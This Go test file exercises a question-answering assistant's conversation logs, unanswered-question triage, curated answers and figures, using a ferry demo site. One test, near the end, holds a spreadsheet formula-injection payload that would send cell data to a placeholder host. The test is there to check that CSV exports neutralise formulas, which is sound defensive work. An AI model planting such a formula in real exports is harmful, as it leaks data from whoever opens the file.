package app_test

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"jolvex/core/answer"
	"jolvex/core/diagnose"
	"jolvex/core/query"
	"jolvex/internal/app"
	"jolvex/internal/asking"
	"jolvex/internal/fault"
	"jolvex/internal/mending/figures"
	"jolvex/internal/mending/settled"
	"jolvex/internal/mending/snags"
	"jolvex/internal/store/talk"
)

// logged is a log of conversations over the demo site, answered by the draft.
func logged(t *testing.T, lines ...string) *app.App {
	t.Helper()
	a := fresh(t)
	create(t, a, "c")
	for title, body := range map[string]string{
		"Fares":    "# Fares\n\n## Passenger fares, Tolmouth to Little Hobb\n\n| Passenger | Single | Return |\n|---|---|---|\n| Adult | £11.40 | £20.30 |\n| Senior (65 and over) | £8.90 | £15.80 |\n| Child (5 to 15) | £5.70 | £10.15 |\n",
		"Parking":  "# Harbour parking\n\nParking costs £9.00 a day. Parking for one week costs £38.00.\n",
		"On board": "# On board\n\nInternet on board is free of charge in the lounge.\n",
		"Groups":   "# Groups\n\nGroups of ten or more get 15 % off. A deposit of 20 % is due on booking.\n",
	} {
		_, err := a.Gathering.PutText(t.Context(), "c", title, body)
		require.NoError(t, err)
	}
	idle(t, a, "c")
	imported(t, a, lines...)
	return a
}

func imported(t *testing.T, a *app.App, lines ...string) {
	t.Helper()
	got, err := a.Mending.Conversations.Import(t.Context(), "c", []byte(strings.Join(lines, "\n")), true, true)
	require.NoError(t, err)
	require.Empty(t, got.Problems)
	ended(t, a, "c", got.Job.ID)
}

func wasAsked(conversation, question string) string {
	return fmt.Sprintf(`{"conversation":%q,"visitor":"v-%s","question":%q,"surface":"widget","at":"2026-03-01T10:00:00Z"}`, conversation, conversation, question)
}

func gatherSnags(t *testing.T, a *app.App) []snags.Snag {
	t.Helper()
	j, err := a.Mending.Snags.Gather(t.Context(), "c")
	require.NoError(t, err)
	ended(t, a, "c", j.ID)
	ss, err := a.Mending.Snags.List(t.Context(), "c", "")
	require.NoError(t, err)
	return ss
}

func TestALogIsAnsweredAndRead(t *testing.T) {
	a := logged(t, wasAsked("1", "How much is a return ticket to Little Hobb?"), wasAsked("1", "And for a senior?"), wasAsked("2", "Do you sell gift vouchers?"))
	again, err := a.Mending.Conversations.Import(t.Context(), "c", []byte(wasAsked("2", "Do you sell gift vouchers?")), true, true)
	require.NoError(t, err)
	assert.Zero(t, again.Fresh, "a conversation that is there already is passed over")
	_, err = a.Asking.Ask(t.Context(), public, "c", query.Question{Text: "What does a bicycle cost?"})
	require.NoError(t, err)

	log, err := a.Mending.Conversations.Log(t.Context(), "c", talk.Filter{Limit: 10}, false)
	require.NoError(t, err)
	require.Len(t, log, 3, "what people ask who work here stands apart")
	c, err := a.Mending.Conversations.Conversation(t.Context(), "c", log[0].Conversation, 0, 10, false)
	require.NoError(t, err)
	if len(c.Exchanges) == 1 {
		c, err = a.Mending.Conversations.Conversation(t.Context(), "c", log[2].Conversation, 0, 10, false)
		require.NoError(t, err)
	}
	require.Len(t, c.Exchanges, 2)
	assert.Contains(t, c.Exchanges[0].Said, "£20.30")
	assert.Contains(t, c.Exchanges[1].Said, "£15.80", "a follow-up is read with what was said before")
	r, err := a.Asking.Reply(t.Context(), "c", c.Exchanges[1].ID)
	require.NoError(t, err)
	assert.Equal(t, "widget", r.Trail.Pins.Surface, "with its evidence trail")

	mine, err := a.Mending.Conversations.Log(t.Context(), "c", talk.Filter{Tests: true, Limit: 10}, false)
	require.NoError(t, err)
	require.Len(t, mine, 1)
	for filter, want := range map[*talk.Filter]int{
		{Outcome: "refused"}: 1, {Search: "VOUCHER"}: 1, {Search: "20.30"}: 1, {Search: "100%"}: 0, {Visitor: "v-1"}: 2, {Surface: "import"}: 0, {Since: "2026-03-01T10:00:00.000Z"}: 3, {Until: "2026-03-01T10:00:00.000Z"}: 0, {Mark: "none"}: 3,
	} {
		filter.Limit = 10
		got, err := a.Mending.Conversations.Log(t.Context(), "c", *filter, false)
		require.NoError(t, err)
		assert.Len(t, got, want, "%+v", *filter)
	}
	over, err := a.Mending.Conversations.Overview(t.Context(), "c", talk.Filter{})
	require.NoError(t, err)
	assert.Equal(t, "2026-03-01T10:00:00Z", over.Buckets[0].Start)

	csv, err := a.Mending.Conversations.Export(t.Context(), "c", "csv", talk.Filter{}, false)
	require.NoError(t, err)
	assert.Equal(t, 4, strings.Count(string(csv), "\n"))
	jsonl, err := a.Mending.Conversations.Export(t.Context(), "c", "jsonl", talk.Filter{}, false)
	require.NoError(t, err)
	back, err := a.Mending.Conversations.Import(t.Context(), "c", jsonl, false, false)
	require.NoError(t, err)
	assert.Equal(t, []int{2, 3}, []int{back.Conversations, back.Exchanges}, "what is exported can be imported")

	n, err := a.Mending.Conversations.Erase(t.Context(), "c", "v-1")
	require.NoError(t, err)
	assert.Equal(t, 1, n)
	_, err = a.Asking.Reply(t.Context(), "c", c.Exchanges[0].ID)
	assert.ErrorIs(t, err, fault.ErrMissing, "with the replies")
}

func TestAMessageGoesOnWithItsConversation(t *testing.T) {
	a := fresh(t)
	withDogs(t, a)
	first, err := a.Asking.Ask(t.Context(), public, "c", query.Question{Text: "Must a dog be on a lead?"})
	require.NoError(t, err)
	who := public
	who.Conversation = first.Conversation
	second, err := a.Asking.Ask(t.Context(), who, "c", query.Question{Text: "and a muzzle?"})
	require.NoError(t, err)
	assert.Equal(t, first.Conversation, second.Conversation)
	who.Audience = "staff"
	_, err = a.Asking.Ask(t.Context(), who, "c", query.Question{Text: "and a muzzle?"})
	assert.ErrorIs(t, err, fault.ErrInput, "what one audience was told is no part of another's conversation")
	_, err = a.Asking.Ask(t.Context(), asking.Caller{Audience: "public", Surface: "bench", Conversation: "nowhere"}, "c", query.Question{Text: "x"})
	assert.ErrorIs(t, err, fault.ErrInput)
}

func TestASampleTellsHowOftenUsersAreAnsweredRightly(t *testing.T) {
	a := logged(t, wasAsked("1", "How much is parking for one week?"), wasAsked("2", "hello"), wasAsked("3", "Is there internet on board?"), wasAsked("4", "Do you sell gift vouchers?"))
	s, err := a.Mending.Conversations.Draw(t.Context(), "c", "2026-01-01T00:00:00.000Z", "2027-01-01T00:00:00.000Z", 10)
	require.NoError(t, err)
	assert.Equal(t, []int{3, 3}, []int{s.Drawn, s.Of}, "courtesies are not drawn")
	log, err := a.Mending.Conversations.Log(t.Context(), "c", talk.Filter{Sample: s.ID, Limit: 10}, false)
	require.NoError(t, err)
	require.NoError(t, a.Mending.Conversations.Mark(t.Context(), "c", []string{log[0].ID, log[1].ID}, talk.Marking{Mark: "right"}, true))
	require.NoError(t, a.Mending.Conversations.Mark(t.Context(), "c", []string{log[2].ID}, talk.Marking{Mark: "wrong", Note: "no"}, true))
	all, err := a.Mending.Conversations.Samples(t.Context(), "c")
	require.NoError(t, err)
	assert.InDelta(t, 2./3, all[0].Rate, 1e-9)
	assert.Equal(t, 3, all[0].Judged)
	assert.Less(t, all[0].Interval.Low, .3)
	assert.ErrorIs(t, a.Mending.Conversations.Mark(t.Context(), "c", []string{"nowhere"}, talk.Marking{}, true), fault.ErrMissing)
	_, err = a.Mending.Conversations.Draw(t.Context(), "c", "2020-01-01T00:00:00.000Z", "2021-01-01T00:00:00.000Z", 10)
	assert.ErrorIs(t, err, fault.ErrInput)
}

func TestASnagIsSettledByAnAnswer(t *testing.T) {
	a := logged(t, wasAsked("1", "Do you sell gift vouchers?"), wasAsked("2", "gift voucher"), wasAsked("3", "Do you sell gift vouchers?"), wasAsked("4", "Can I sleep in my campervan overnight?"), wasAsked("5", "How much is parking for one week?"))
	ss := gatherSnags(t, a)
	require.Len(t, ss, 2)
	s := ss[0]
	assert.Equal(t, "Do you sell gift vouchers?", s.Title, "the wording most used")
	assert.Equal(t, []int{3, 3, 3}, []int{s.Asked, s.Visitors, s.Refused})

	caught, err := a.Mending.Settled.Catches(t.Context(), "c", s.ID, settled.Answer{Question: "Do you sell gift vouchers?"})
	require.NoError(t, err)
	assert.Equal(t, []int{2, 0}, []int{caught.Meant, caught.Over}, "both wordings, and nothing else")

	done, err := a.Mending.Snags.Settle(t.Context(), "c", s.ID, snags.Settlement{Version: s.Version, How: snags.ByAnswer, Answer: &settled.Answer{
		Question: "Do you sell gift vouchers?", Answer: "Gift vouchers from £25.00 are sold at the ticket office.", Wordings: []string{"gift voucher"},
	}})
	require.NoError(t, err)
	assert.Equal(t, "settled", done.State)
	_, err = a.Mending.Snags.Change(t.Context(), "c", s.ID, snags.Change{Version: s.Version, Reopen: true})
	assert.ErrorIs(t, err, fault.ErrChanged, "two people at one snag: the second is told")
	idle(t, a, "c")
	open, err := a.Mending.Snags.Open(t.Context(), "c", s.ID)
	require.NoError(t, err)
	assert.Equal(t, "settled", open.State)
	for i := range open.Before {
		assert.Equal(t, string(answer.Refused), open.Before[i].Outcome)
		assert.Contains(t, open.After[i].Reply, "£25.00", "asked again: %s", open.After[i].Question)
		assert.True(t, open.After[i].Passed)
	}
	imported(t, a, wasAsked("9", "gift vouchers?"))
	list, err := a.Mending.Settled.List(t.Context(), "c")
	require.NoError(t, err)
	assert.Equal(t, 1, list[0].Use.Used)

	out, err := a.Mending.Settled.SetState(t.Context(), "c", list[0].ID, list[0].Version, talk.Withdrawn)
	require.NoError(t, err)
	idle(t, a, "c")
	r, err := a.Asking.Ask(t.Context(), public, "c", query.Question{Text: "gift voucher"})
	require.NoError(t, err)
	assert.True(t, r.Refused, "withdrawn, it is no longer given")
	_, err = a.Mending.Settled.SetState(t.Context(), "c", out.ID, out.Version, talk.InForce)
	require.NoError(t, err)
	idle(t, a, "c")
	r, err = a.Asking.Ask(t.Context(), public, "c", query.Question{Text: "gift voucher"})
	require.NoError(t, err)
	assert.Contains(t, r.Reply, "£25.00")
	history, err := a.Mending.Settled.History(t.Context(), "c", out.ID)
	require.NoError(t, err)
	assert.Len(t, history, 3)
}

func TestASnagWaitsForItsSource(t *testing.T) {
	a := fresh(t)
	create(t, a, "c")
	put := func(body string) string {
		d, err := a.Gathering.PutText(t.Context(), "c", "Vouchers", body)
		require.NoError(t, err)
		idle(t, a, "c")
		return d.ID
	}
	id := put("# Vouchers\n\nThe shop has closed.")
	imported(t, a, wasAsked("1", "How much is a gift voucher?"))
	ss := gatherSnags(t, a)
	require.Len(t, ss, 1)
	fact := "A gift voucher costs £25.00."
	s, err := a.Mending.Snags.Change(t.Context(), "c", ss[0].ID, snags.Change{Version: ss[0].Version, Fact: &fact})
	require.NoError(t, err)
	s, err = a.Mending.Snags.Settle(t.Context(), "c", s.ID, snags.Settlement{Version: s.Version, How: snags.BySource, Document: id})
	require.NoError(t, err)
	assert.Equal(t, "waiting", s.State)
	assert.Equal(t, "waiting", gatherSnags(t, a)[0].State, "as long as the source is what it was")
	put("# Vouchers\n\nWe sell vouchers no more.")
	assert.Equal(t, "open", gatherSnags(t, a)[0].State, "mended wrongly, it comes back")
	s = gatherSnags(t, a)[0]
	_, err = a.Mending.Snags.Settle(t.Context(), "c", s.ID, snags.Settlement{Version: s.Version, How: snags.BySource, Document: id})
	require.NoError(t, err)
	put("# Vouchers\n\nA gift voucher costs £25.00.")
	s = gatherSnags(t, a)[0]
	assert.Equal(t, "settled", s.State, "%+v", s)
	assert.Contains(t, s.After[0].Reply, "£25.00")

	other := "Campervans may stay for £12.00 a night."
	imported(t, a, wasAsked("2", "May I stay overnight in my campervan?"))
	ss = gatherSnags(t, a)
	at := 0
	for ss[at].State != "open" {
		at++
	}
	_, err = a.Mending.Snags.Settle(t.Context(), "c", ss[at].ID, snags.Settlement{Version: ss[at].Version, How: snags.BySet, Set: "From users"})
	assert.ErrorIs(t, err, fault.ErrInput, "what is true is not said")
	s, err = a.Mending.Snags.Change(t.Context(), "c", ss[at].ID, snags.Change{Version: ss[at].Version, Fact: &other})
	require.NoError(t, err)
	s, err = a.Mending.Snags.Look(t.Context(), "c", s.ID)
	require.NoError(t, err)
	assert.Equal(t, "notGathered", s.Cause, "what is true stands nowhere")
	_, err = a.Mending.Snags.Settle(t.Context(), "c", s.ID, snags.Settlement{Version: s.Version, How: snags.BySet, Set: "From users"})
	require.NoError(t, err)
	set, err := a.Proving.Sets.QuestionSet(t.Context(), "c", "From users")
	require.NoError(t, err)
	require.Len(t, set.Questions, 1)
	assert.Equal(t, "£12.00", set.Questions[0].Expect[0].Values[0])
}

func TestASettledAnswerIsWarnedOfAndExpires(t *testing.T) {
	a := fresh(t)
	create(t, a, "c")
	_, err := a.Gathering.PutText(t.Context(), "c", "Dogs", "# Dogs\n\nThe fare for a dog is £3.00.")
	require.NoError(t, err)
	s, err := a.Mending.Settled.Put(t.Context(), "c", settled.Answer{Question: "What is the fare for a dog?", Answer: "The fare for a dog is £2.00."})
	require.NoError(t, err)
	_, err = a.Mending.Settled.Put(t.Context(), "c", settled.Answer{Question: "Dog fare", Answer: "£2.00.", Wordings: []string{"what is the fare for a DOG?"}})
	assert.ErrorIs(t, err, fault.ErrInput, "one question has one settled answer")
	idle(t, a, "c")
	gatherSnags(t, a)
	list, err := a.Mending.Settled.List(t.Context(), "c")
	require.NoError(t, err)
	assert.Contains(t, list[0].Warning, "says otherwise: The fare for a dog is £3.00.")
	s.Answer = "The fare for a dog is £3.00."
	s, err = a.Mending.Settled.Put(t.Context(), "c", s)
	require.NoError(t, err)
	idle(t, a, "c")
	gatherSnags(t, a)
	list, err = a.Mending.Settled.List(t.Context(), "c")
	require.NoError(t, err)
	assert.Contains(t, list[0].Warning, "says the same")
	s.Expires = "2020-01-01"
	s, err = a.Mending.Settled.Put(t.Context(), "c", s)
	require.NoError(t, err)
	assert.Equal(t, "expired", s.State)
	_, err = a.Mending.Settled.SetState(t.Context(), "c", s.ID, s.Version, talk.InForce)
	assert.ErrorIs(t, err, fault.ErrInput)
	for _, bad := range []settled.Answer{{Question: " ", Answer: "x"}, {Question: "x"}, {Question: "a\u202eb", Answer: "x"}, {Question: "x", Answer: "y", Expires: "soon"}} {
		_, err := a.Mending.Settled.Put(t.Context(), "c", bad)
		assert.ErrorIs(t, err, fault.ErrInput)
	}
}

func TestASettledAnswerThatCatchesEverythingIsTold(t *testing.T) {
	a := fresh(t)
	create(t, a, "c")
	var qs []string
	for i, q := range []string{
		"How much is a bicycle to Sandrel?", "How much is a dog to Sandrel?", "How much is a kayak to Sandrel?", "How much is a car to Sandrel?", "What does a ticket to Sandrel cost?", "child ticket to Sandrel price",
		"senior ticket to Sandrel price", "return ticket to Sandrel price", "single ticket to Sandrel", "student ticket Sandrel", "van to Sandrel price", "motorhome to Sandrel price", "How much is the ferry to Sandrel for adults?",
		"family ticket to Sandrel", "carnet Sandrel price", "season ticket Sandrel", "trailer to Sandrel fare", "motorcycle to Sandrel fare", "resident ticket Sandrel", "price of a crossing to Sandrel",
	} {
		qs = append(qs, fmt.Sprintf(`{"conversation":"%d","question":%q,"reply":"So much.","outcome":"answered"}`, i, q))
	}
	_, err := a.Mending.Conversations.Import(t.Context(), "c", []byte(strings.Join(qs, "\n")), true, false)
	require.NoError(t, err)
	got, err := a.Mending.Settled.Catches(t.Context(), "c", "", settled.Answer{Question: "How much is a ticket to Sandrel?"})
	require.NoError(t, err)
	assert.True(t, got.Everything, "%d of %d", got.Over, got.Of)
	got, err = a.Mending.Settled.Catches(t.Context(), "c", "", settled.Answer{Question: "Where do I fix my glasses?"})
	require.NoError(t, err)
	assert.False(t, got.Everything)
	assert.Zero(t, got.Over)
}

func TestFiguresOverTime(t *testing.T) {
	a := fresh(t)
	create(t, a, "c")
	line := func(conversation, at, question, outcome, thumb string) string {
		return fmt.Sprintf(`{"conversation":%q,"at":%q,"question":%q,"reply":"r","outcome":%q,"thumb":%q,"surface":"widget"}`, conversation, at, question, outcome, thumb)
	}
	lines := []string{
		line("a", "2026-03-01T23:30:00Z", "How much is a dog?", "answered", ""), // in Berlin it is the second already
		line("a", "2026-03-01T23:31:00Z", "thanks", "courtesy", ""),
		line("b", "2026-03-03T10:00:00Z", "How much is a dog?", "answered", "down"),
		line("c", "2026-03-03T10:00:00Z", "Can I speak to somebody?", "handedOver", ""),
		line("d", "2026-03-04T10:00:00Z", "Which dogs?", "askedBack", ""),
		line("d", "2026-03-04T10:01:00Z", "Small dogs", "answered", ""),
	}
	for i := range 8 { // the boat is late: many ask at once
		lines = append(lines, line(fmt.Sprint("late", i), "2026-03-05T08:00:00Z", "Is the 8 o'clock boat late?", "refused", ""))
	}
	got, err := a.Mending.Conversations.Import(t.Context(), "c", []byte(strings.Join(lines, "\n")), true, false)
	require.NoError(t, err)
	require.Empty(t, got.Problems)
	require.Nil(t, got.Job, "the replies of the log are kept")

	f := figures.Filter{Since: "2026-02-28T23:00:00.000Z", Until: "2026-03-07T23:00:00.000Z", Zone: "Europe/Berlin"}
	out, err := a.Mending.Figures.Figures(t.Context(), "c", f)
	require.NoError(t, err)
	assert.Equal(t, figures.Counts{Questions: 13, Answered: 3, Refused: 8, AskedBack: 1, HandedOver: 1, Wrong: 1, Conversations: 12, Unaided: 2}, out.Counts)
	require.Len(t, out.Steps, 7)
	assert.Equal(t, []int{0, 1, 2, 2, 8, 0, 0}, []int{
		out.Steps[0].Questions, out.Steps[1].Questions, out.Steps[2].Questions, out.Steps[3].Questions, out.Steps[4].Questions, out.Steps[5].Questions, out.Steps[6].Questions,
	}, "by days of whoever looks")
	weeks, err := a.Mending.Figures.Figures(t.Context(), "c", figures.Filter{Since: f.Since, Until: f.Until, Zone: f.Zone, Week: true})
	require.NoError(t, err)
	assert.Equal(t, "2026-02-23", weeks.Steps[0].From)
	assert.Equal(t, 13, weeks.Steps[1].Questions)

	s, err := a.Mending.Figures.Subjects(t.Context(), "c", f)
	require.NoError(t, err)
	assert.Equal(t, "Is the 8 o'clock boat late?", s.Subjects[0].Title)
	assert.True(t, s.Subjects[0].Grows, "%+v", s.Subjects[0])
	assert.False(t, s.Subjects[0].Covered)
	require.Len(t, s.Incidents, 1)
	assert.Equal(t, []int{8, 8, 1}, []int{s.Incidents[0].Count, s.Plain, s.Once}, "one incident is counted once beside the plain count")
	for _, bad := range []figures.Filter{{Since: f.Since, Until: f.Until, Zone: "Nowhere/City"}, {Since: f.Until, Until: f.Since, Zone: "UTC"}, {Since: "1990-01-01T00:00:00Z", Until: f.Until, Zone: "UTC"}} {
		_, err := a.Mending.Figures.Figures(t.Context(), "c", bad)
		assert.ErrorIs(t, err, fault.ErrInput)
	}
}

func TestWhatNobodyCoveredIsABrief(t *testing.T) {
	a := logged(t, wasAsked("1", "Do you sell gift vouchers?"), wasAsked("2", "gift *voucher*"), wasAsked("3", "How much is parking for one week?"))
	f := figures.Filter{Since: "2026-01-01T00:00:00.000Z", Until: "2027-01-01T00:00:00.000Z", Zone: "UTC"}
	got, err := a.Mending.Figures.Uncovered(t.Context(), "c", f)
	require.NoError(t, err)
	require.Len(t, got, 1)
	assert.Equal(t, []int{2, 2}, []int{got[0].Asked, got[0].People})
	assert.NotEmpty(t, got[0].Near)
	brief, err := a.Mending.Figures.Brief(t.Context(), "c", f)
	require.NoError(t, err)
	assert.Contains(t, string(brief), "## Do you sell gift vouchers?")
	assert.Contains(t, string(brief), `gift \*voucher\*`, "what users wrote makes no markup")
	_, err = a.Mending.Figures.Brief(t.Context(), "c", figures.Filter{Since: "2025-01-01T00:00:00.000Z", Until: "2025-02-01T00:00:00.000Z", Zone: "UTC"})
	assert.ErrorIs(t, err, fault.ErrInput)
}

func TestSnagsComeFromAnywhere(t *testing.T) {
	a := fresh(t)
	withDogs(t, a)
	r, err := a.Asking.Ask(t.Context(), public, "c", query.Question{Text: "How much is a dog?"})
	require.NoError(t, err)
	s, err := a.Mending.Snags.Add(t.Context(), "c", snags.Report{Exchange: r.ID, Fact: "A dog costs £9.00."})
	require.NoError(t, err)
	assert.Equal(t, []string{"wrong", "How much is a dog?", "open"}, []string{s.Kind, s.Title, s.State})
	again, err := a.Mending.Snags.Add(t.Context(), "c", snags.Report{Exchange: r.ID})
	require.NoError(t, err)
	assert.Equal(t, s.ID, again.ID, "one reply makes one snag")
	v, err := a.Mending.Snags.Add(t.Context(), "c", snags.Report{Run: "r", Question: "q1", Text: "How much is a kayak?"})
	require.NoError(t, err)
	again, err = a.Mending.Snags.Add(t.Context(), "c", snags.Report{Run: "r", Question: "q1", Text: "How much is a kayak?"})
	require.NoError(t, err)
	assert.Equal(t, v.ID, again.ID)
	x, err := a.Mending.Snags.Add(t.Context(), "c", snags.Report{Finding: "f", Text: "two pages disagree"})
	require.NoError(t, err)
	assert.Equal(t, []string{"verdict", "conflict"}, []string{v.Kind, x.Kind})
	_, err = a.Mending.Snags.Add(t.Context(), "c", snags.Report{})
	assert.ErrorIs(t, err, fault.ErrInput)

	merged, err := a.Mending.Snags.Merge(t.Context(), "c", v.ID, s.ID)
	require.NoError(t, err)
	open, err := a.Mending.Snags.Open(t.Context(), "c", merged.ID)
	require.NoError(t, err)
	assert.Len(t, open.Lines, 1)
	assert.Len(t, open.Items, 1)
	apart, err := a.Mending.Snags.Split(t.Context(), "c", []string{r.ID})
	require.NoError(t, err)
	assert.NotEqual(t, merged.ID, apart.ID)
	assert.Equal(t, 1, apart.Asked)
	reason := "nobody asks that"
	d, err := a.Mending.Snags.Change(t.Context(), "c", apart.ID, snags.Change{Version: apart.Version, Dismiss: &reason})
	require.NoError(t, err)
	assert.Equal(t, []string{"dismissed", reason}, []string{d.State, d.Reason})
	back, err := a.Mending.Snags.Change(t.Context(), "c", apart.ID, snags.Change{Version: d.Version, Reopen: true})
	require.NoError(t, err)
	assert.Equal(t, "open", back.State)
	bad := "tomorrow"
	_, err = a.Mending.Snags.Change(t.Context(), "c", apart.ID, snags.Change{Version: back.Version, Due: &bad})
	assert.ErrorIs(t, err, fault.ErrInput)

	require.NoError(t, a.Mending.Snags.Expect(t.Context(), "c", r.ID, snags.Expecting{Set: "Asked", Fact: "A dog costs £9.00.", Cite: true}))
	set, err := a.Proving.Sets.QuestionSet(t.Context(), "c", "Asked")
	require.NoError(t, err)
	assert.Len(t, set.Questions[0].Expect, 2, "what is true, and the page that was cited")
}

func TestSettledAnswersFromElsewhereAreTakenUp(t *testing.T) {
	a := fresh(t)
	create(t, a, "c")
	require.NoError(t, a.Gathering.PutSettled(t.Context(), "c", diagnose.Settling{Question: "May I fish from the pier?", Answer: "No."}))
	s, err := a.Mending.Settled.Put(t.Context(), "c", settled.Answer{Question: "Gift voucher", Answer: "From £25.00.", Wordings: []string{"a present"}})
	require.NoError(t, err)
	s.Wordings = nil
	_, err = a.Mending.Settled.Put(t.Context(), "c", s)
	require.NoError(t, err)
	idle(t, a, "c")
	list, err := a.Mending.Settled.List(t.Context(), "c")
	require.NoError(t, err)
	require.Len(t, list, 2, "and no wording that was taken away")
	assert.ElementsMatch(t, []string{"May I fish from the pier?", "Gift voucher"}, []string{list[0].Question, list[1].Question})

	sources, err := a.Gathering.Sources(t.Context(), "c")
	require.NoError(t, err)
	for _, x := range sources {
		if x.Name == "Settled answers" {
			require.NoError(t, a.Gathering.RemoveSource(t.Context(), "c", x.ID))
		}
	}
	idle(t, a, "c")
	gatherSnags(t, a)
	list, err = a.Mending.Settled.List(t.Context(), "c")
	require.NoError(t, err)
	require.Len(t, list, 2)
	assert.Contains(t, list[0].Warning, "deleted with its source")
	list[0].Use = talk.Use{}
	_, err = a.Mending.Settled.Put(t.Context(), "c", list[0])
	require.NoError(t, err)
	idle(t, a, "c")
	r, err := a.Asking.Ask(t.Context(), public, "c", query.Question{Text: list[0].Question})
	require.NoError(t, err)
	assert.Contains(t, r.Reply, list[0].Answer, "saved again, it is back")
}

func TestSettledAnswersGoOutAndComeIn(t *testing.T) {
	a := fresh(t)
	create(t, a, "c")
	_, err := a.Mending.Settled.Put(t.Context(), "c", settled.Answer{Question: "Gift voucher", Answer: "=From £25.00, \"or more\".\nAsk.", Wordings: []string{"a present", "voucher"}, Owner: "R. Pell", Expires: "2099-01-01"})
	require.NoError(t, err)
	idle(t, a, "c")
	create(t, a, "d")
	for _, form := range []string{"jsonl", "csv"} {
		raw, err := a.Mending.Settled.Export(t.Context(), "c", form)
		require.NoError(t, err)
		got, err := a.Mending.Settled.Import(t.Context(), "d", raw)
		require.NoError(t, err)
		assert.Empty(t, got.Problems)
		idle(t, a, "d")
	}
	list, err := a.Mending.Settled.List(t.Context(), "d")
	require.NoError(t, err)
	require.Len(t, list, 1, "the second file is a new version of the first")
	assert.Equal(t, 2, list[0].Version)
	assert.Equal(t, []string{"a present", "voucher"}, list[0].Wordings)
	assert.Equal(t, []string{"R. Pell", "2099-01-01"}, []string{list[0].Owner, list[0].Expires})
	assert.Equal(t, "=From £25.00, \"or more\".\nAsk.", list[0].Answer, "guarded against formulas in the file alone")

	got, err := a.Mending.Settled.Import(t.Context(), "d", []byte("question,answer,expires\nVoucher,x,\nDogs,Yes.,soon\n,,\nCats,No.,\n"))
	require.NoError(t, err)
	assert.Equal(t, 1, got.Fresh)
	assert.Len(t, got.Problems, 3, "one is another's wording, one has no day, one is empty: %v", got.Problems)
	for _, bad := range []string{"", "a,b\n1,2\n"} {
		_, err := a.Mending.Settled.Import(t.Context(), "d", []byte(bad))
		assert.ErrorIs(t, err, fault.ErrInput)
	}
}

func TestTwoWhoSettleAtTheSameMoment(t *testing.T) {
	a := logged(t, wasAsked("1", "Do you sell gift vouchers?"))
	s := gatherSnags(t, a)[0]
	errs := make(chan error, 4)
	for i := range cap(errs) {
		go func() {
			_, err := a.Mending.Snags.Settle(t.Context(), "c", s.ID, snags.Settlement{Version: s.Version, How: snags.ByAnswer, Answer: &settled.Answer{Question: fmt.Sprint("Gift voucher of person ", i), Answer: "Gift vouchers cost £25.00."}})
			errs <- err
		}()
	}
	done := 0
	for range cap(errs) {
		if err := <-errs; err == nil {
			done++
		} else {
			assert.ErrorIs(t, err, fault.ErrChanged)
		}
	}
	assert.Equal(t, 1, done, "one settles it, the others are told")
	idle(t, a, "c")
	list, err := a.Mending.Settled.List(t.Context(), "c")
	require.NoError(t, err)
	assert.Len(t, list, 1, "and leave nothing behind")
}

// What a visitor writes is text to whoever opens an export in a spreadsheet, and comes back as it was.
func TestExportsWorkNothingOut(t *testing.T) {
	a := fresh(t)
	withDogs(t, a)
	const asked = `=HYPERLINK("https://x.example?"&A1,"dogs")`
	visitor(t, a, asked)
	raw, err := a.Mending.Conversations.Export(t.Context(), "c", "csv", talk.Filter{Limit: 10}, false)
	require.NoError(t, err)
	plain, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(raw, []byte("\xef\xbb\xbf")))).ReadAll()
	require.NoError(t, err)
	found := false
	for _, row := range plain[1:] {
		for _, cell := range row {
			assert.False(t, strings.HasPrefix(cell, "="), cell)
			found = found || cell == "'"+asked
		}
	}
	assert.True(t, found, "the question is there, as text")
	create(t, a, "again")
	got, err := a.Mending.Conversations.Import(t.Context(), "again", raw, true, false)
	require.NoError(t, err)
	require.Empty(t, got.Problems)
	log, err := a.Mending.Conversations.Log(t.Context(), "again", talk.Filter{Limit: 10}, false)
	require.NoError(t, err)
	require.Len(t, log, 1)
	assert.Equal(t, asked, log[0].Question)
}
